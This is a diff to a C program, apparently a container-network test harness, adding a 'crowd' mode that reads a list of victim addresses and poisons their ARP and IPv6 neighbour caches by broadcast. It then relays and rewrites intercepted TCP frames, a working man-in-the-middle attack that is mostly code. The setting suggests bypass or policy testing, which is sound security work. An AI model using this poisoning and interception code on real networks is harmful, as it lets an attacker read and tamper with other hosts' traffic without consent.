@@ -13,6 +13,7 @@
 #include <netinet/ip6.h>
 #include <netinet/tcp.h>
 #include <poll.h>
+#include <signal.h>
 #include <sys/un.h>
 
 #include "bypass.h"
@@ -33,10 +34,42 @@ static struct ends {
 
 /* ---- what comes ---- */
 
-static bool between(const uint8_t *from, const uint8_t *to, const uint8_t *a, const uint8_t *b,
-		    size_t size)
+/* Of a crowd: its pods' addresses, and where their frames come from. */
+static struct victim {
+	uint8_t addr[16];
+	size_t size;
+	uint8_t mac[6];
+} crowd[64];
+static int n_crowd;
+
+static struct victim *in_crowd(const uint8_t *addr, size_t size)
 {
-	return !memcmp(from, a, size) && !memcmp(to, b, size);
+	for (int i = 0; i < n_crowd; i++)
+		if (crowd[i].size == size && !memcmp(crowd[i].addr, addr, size))
+			return &crowd[i];
+	return NULL;
+}
+
+static bool is_victim(const uint8_t *addr, size_t size)
+{
+	if (n_crowd)
+		return in_crowd(addr, size);
+	return !memcmp(addr, size == 4 ? ends.web4 : ends.web6, size);
+}
+
+static bool is_node(const uint8_t *addr, size_t size)
+{
+	return !memcmp(addr, size == 4 ? ends.node4 : ends.node6, size);
+}
+
+/* Whether these are the ends, and which way. */
+static bool has_ends(const uint8_t *from, size_t size, struct segment *ret)
+{
+	const uint8_t *to = from + size;
+
+	ret->v6 = size == 16;
+	ret->to_agent = is_victim(from, size) && is_node(to, size);
+	return ret->to_agent || (is_node(from, size) && is_victim(to, size));
 }
 
 static const uint8_t *tcp_of(const uint8_t *frame, size_t len, struct segment *ret, size_t *size)
@@ -47,20 +80,12 @@ static const uint8_t *tcp_of(const uint8_t *frame, size_t len, struct segment *r
 	unsigned type = (unsigned)frame[12] << 8 | frame[13];
 
 	if (type == ETH_P_IP && len >= 54 && ip4->protocol == IPPROTO_TCP) {
-		ret->v6 = false;
-		ret->to_agent = between(ip + 12, ip + 16, ends.web4, ends.node4, 4);
-		if (!ret->to_agent && !between(ip + 12, ip + 16, ends.node4, ends.web4, 4))
-			return NULL;
 		*size = ntohs(ip4->tot_len) - ip4->ihl * 4U;
-		return ip + ip4->ihl * 4U;
+		return has_ends(ip + 12, 4, ret) ? ip + ip4->ihl * 4U : NULL;
 	}
 	if (type == ETH_P_IPV6 && len >= 74 && ip6->ip6_nxt == IPPROTO_TCP) {
-		ret->v6 = true;
-		ret->to_agent = between(ip + 8, ip + 24, ends.web6, ends.node6, 16);
-		if (!ret->to_agent && !between(ip + 8, ip + 24, ends.node6, ends.web6, 16))
-			return NULL;
 		*size = ntohs(ip6->ip6_plen);
-		return ip + sizeof(*ip6);
+		return has_ends(ip + 8, 16, ret) ? ip + sizeof(*ip6) : NULL;
 	}
 	return NULL;
 }
@@ -158,8 +183,28 @@ static void advertise(const void *to, const uint8_t *to_address, const uint8_t *
 	send_frame(p.data, p.len);
 }
 
+/* To all at once: nobody believes it of his own address. */
+static void poison_crowd(void)
+{
+	static const uint8_t all[] = {255, 255, 255, 255, 255, 255},
+			     all6[] = {0x33, 0x33, 0, 0, 0, 1};
+	static const uint8_t nodes[16] = {255, 2, [15] = 1}; /* ff02::1 */
+
+	arp(all, ends.node4, ends.node4);
+	advertise(all6, nodes, ends.node6);
+	for (int i = 0; i < n_crowd; i++)
+		if (crowd[i].size == 4)
+			arp(all, crowd[i].addr, crowd[i].addr);
+		else
+			advertise(all6, nodes, crowd[i].addr);
+}
+
 static void poison(void)
 {
+	if (n_crowd) {
+		poison_crowd();
+		return;
+	}
 	arp(WEB_MAC, ends.node4, ends.node4);
 	arp(NODE_MAC, ends.web4, ends.web4);
 	advertise(WEB_MAC, ends.web6, ends.node6);
@@ -341,6 +386,21 @@ static void send_spoofed(struct spoof spoof)
 
 /* ---- in the middle ---- */
 
+/* The other end's link layer address. Of a crowd it is known from what has come. */
+static const void *way_of(const uint8_t *frame, const struct segment *s)
+{
+	const uint8_t *from = frame + (s->v6 ? 22 : 26);
+	size_t size = s->v6 ? 16 : 4;
+	struct victim *victim;
+
+	if (!n_crowd)
+		return s->to_agent ? NODE_MAC : WEB_MAC;
+	victim = in_crowd(s->to_agent ? from : from + size, size);
+	if (s->to_agent)
+		memcpy(victim->mac, frame + 6, 6);
+	return s->to_agent ? (const void *)NODE_MAC : victim->mac;
+}
+
 /* Checksums of local senders are not made yet on a veth. */
 static void hand_on(uint8_t *frame, const struct segment *s)
 {
@@ -349,7 +409,7 @@ static void hand_on(uint8_t *frame, const struct segment *s)
 	uint8_t *tcp = s->v6 ? ip + 40 : ip + (ip[0] & 15) * 4;
 	size_t size = (size_t)(s->payload + s->len - tcp);
 
-	memcpy(frame, s->to_agent ? NODE_MAC : WEB_MAC, 6);
+	memcpy(frame, way_of(frame, s), 6);
 	memcpy(frame + 6, own_mac, 6);
 	tcp_check(frame + addrs, s->v6 ? 32 : 8, tcp, size);
 	send_frame(frame, (size_t)(s->payload + s->len - frame));
@@ -412,7 +472,7 @@ static void take_frame(uint8_t *frame, size_t len)
 		return;
 	if (type == ETH_P_ARP && len >= 42 && frame[21] == ARPOP_REPLY)
 		fenced = true;
-	else if (type == ETH_P_ARP && mode != NEIGHBOUR_QUIET)
+	else if (type == ETH_P_ARP && mode != NEIGHBOUR_QUIET && !n_crowd)
 		poison();
 	if (!is_of_victim(frame, len, &s))
 		return;
@@ -574,4 +634,50 @@ int neighbour_serve(void)
 		if (n > 0 && p[1].revents)
 			take_order(p[1].fd);
 	}
+}
+
+static volatile sig_atomic_t ended;
+
+static void on_term(int sig)
+{
+	ended = sig;
+}
+
+static void read_crowd(const char *path)
+{
+	FILE *f = fopen(path, "re");
+	char host[INET6_ADDRSTRLEN];
+
+	if (!f) {
+		perror(path);
+		exit(1);
+	}
+	while (n_crowd < 64 && fscanf(f, "%45s", host) == 1) {
+		struct victim *v = &crowd[n_crowd++];
+
+		v->size = strchr(host, ':') ? 16 : 4;
+		inet_pton(v->size == 4 ? AF_INET : AF_INET6, host, v->addr);
+	}
+	fclose(f);
+}
+
+int neighbour_crowd(const char *path)
+{
+	struct pollfd p = {.events = POLLIN};
+
+	inet_pton(AF_INET, NODE4, ends.node4);
+	inet_pton(AF_INET6, NODE6, ends.node6);
+	read_crowd(path);
+	signal(SIGTERM, on_term);
+	p.fd = wire_fd = open_wire();
+	mode = NEIGHBOUR_RELAY;
+	printf("ready\n");
+	fflush(stdout);
+	while (!ended) {
+		poll(&p, 1, POISON_MS);
+		poison_now_and_then();
+		take_frames();
+	}
+	printf("frames=%lu asked=%lu answered=%lu\n", seen.frames, seen.asked, seen.answered);
+	return 0;
 }
